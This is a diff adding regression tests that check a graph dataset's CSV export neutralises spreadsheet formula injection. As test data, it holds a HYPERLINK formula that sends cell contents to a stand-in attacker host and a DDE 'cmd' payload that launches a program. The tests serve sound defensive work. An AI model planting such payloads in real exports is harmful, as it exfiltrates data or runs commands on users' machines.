@@ -469,3 +469,32 @@ def test_export_views_are_the_same_on_the_oxigraph_store():
     trig.parse(data=_export("trig", source=store), format="trig")
     assert isomorphic(_union(trig), _union(_source().dataset))
 
+
+
+def test_export_issue_12_csv_cells_cannot_run_as_formulas():
+    dataset = rdflib.Dataset()
+    dataset.parse(FIXTURE, format="trig")
+    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Poland")'
+    for subject, predicate, _, graph in list(dataset.quads(
+            (None, rdflib.RDFS.label, rdflib.Literal("Poland"), None))):
+        dataset.remove((subject, predicate, rdflib.Literal("Poland"), graph))
+        dataset.add((subject, predicate, rdflib.Literal(formula), graph))
+    rows = list(csv.DictReader(io.StringIO(
+        _export("csv", "actors", DatasetSource(dataset)).decode("utf-8"))))
+    offer = next(row for row in rows if row["predicate"] == "offer")
+    assert offer["target_label"] == "'" + formula
+    # numbers are no formulas: a negative sign stays a number
+    assert all(not row["sign"].startswith("'") for row in rows)
+    assert any(row["sign"] == "-1" for row in rows)
+
+
+@pytest.mark.parametrize("cell, safe", [
+    ("=1+2", "'=1+2"), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("-2+3", "'-2+3"), ("\tx", "'\tx"), ("-1", "-1"), ("+3.5e2", "+3.5e2"), ("Poland", "Poland"),
+    (-1, -1),
+])
+def test_export_issue_12_spreadsheet_safe(cell, safe):
+    from kg.export import spreadsheet_safe
+
+    assert spreadsheet_safe(cell) == safe
+
